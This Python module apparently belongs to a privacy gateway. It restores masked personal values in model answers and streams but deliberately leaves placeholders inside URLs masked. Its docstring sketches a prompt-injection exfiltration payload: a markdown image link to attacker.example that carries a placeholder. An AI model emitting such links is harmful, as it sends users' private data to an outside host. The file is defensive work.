"""Restoring outside links only: a placeholder inside a URL stays a placeholder.

A prompt injection can ask the model to write ``![](https://attacker.example/?q=<PERSON_1>)``; a
client that renders markdown would then send the restored value to that host. So text from a
``//`` that starts a URL to the end of it (white space, a closing quote or bracket, or Japanese
sentence punctuation) is passed through unrestored. The same character-by-character rule serves
whole answers and streams, so both give the same text.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

from gateway.privacy.restore import StreamRestorer

# "//" (or JSON's "\/\/") not glued to a letter or digit: https://, (//, src=//, ": //".
_LINK_START = re.compile(r"(?<![A-Za-z0-9])(?://|\\/\\/)")
# A URL ends at white space, a closing quote or bracket, or Japanese sentence punctuation. Anything
# else (kanji, 【】, ＜＞) may sit inside a URL a browser would still fetch, so it stays unrestored.
_LINK_END = re.compile(r"[\s)\"'\u3000。、，（）「」『』]")
_CONTEXT = 3  # characters kept to see a link start split across deltas


class LinkAwareRestorer:
    """A `StreamRestorer` that leaves placeholders inside URLs as they are."""

    def __init__(self, vault: Mapping[str, str]) -> None:
        self._restorer = StreamRestorer(vault)
        self._in_link = False
        self._recent = ""  # the last characters outside links, to see a link start split across deltas

    def feed(self, delta: str) -> str:
        """Take the next delta; return what can be released now."""
        out: list[str] = []
        while delta:
            if self._in_link:
                end = _LINK_END.search(delta)
                cut = end.start() if end else len(delta)
                out.append(delta[:cut])
                delta = delta[cut:]
                self._in_link = end is None
                continue
            seen = self._recent + delta
            start = _LINK_START.search(seen)
            if start is None:
                out.append(self._restorer.feed(delta))
                self._recent = seen[-_CONTEXT:]
                break
            cut = start.end() - len(self._recent)  # the link's text begins after "://"
            out.append(self._restorer.feed(delta[:cut]))
            out.append(self._restorer.flush())
            delta, self._in_link, self._recent = delta[cut:], True, ""
        return "".join(out)

    def flush(self) -> str:
        """End of the text: release whatever is held back."""
        self._in_link, self._recent = False, ""
        return self._restorer.flush()


def restore_outside_links(text: str, vault: Mapping[str, str]) -> str:
    """`text` with the vault's placeholders restored, except inside URLs."""
    restorer = LinkAwareRestorer(vault)
    return restorer.feed(text) + restorer.flush()
